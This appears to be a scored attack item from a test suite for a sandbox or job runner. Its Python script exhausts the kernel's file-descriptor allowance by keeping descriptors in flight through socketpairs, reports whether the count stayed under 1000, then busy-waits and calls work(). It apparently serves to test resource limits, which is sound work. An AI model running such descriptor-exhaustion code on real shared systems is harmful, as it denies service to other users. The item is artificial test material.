# attack: 34
# does: keeps as many descriptors on their way through sockets as the kernel lets its user have, then works
# run: finished
# earns: 10
# prints: no more, fewer than 1000: True
# with: work_ec2
import contextlib
import socket
import time

held, count = [], 0
try:
    while True:
        held.append(socket.socketpair())
        held[-1][0].setblocking(False)
        with contextlib.suppress(BlockingIOError):
            while True:
                socket.send_fds(held[-1][0], [b"x"], [0] * 250)
                count += 250
except OSError as error:
    print("no more, fewer than 1000:", count < 1000, error.errno)
end = time.monotonic() + 1.5
while time.monotonic() < end:
    pass
work()
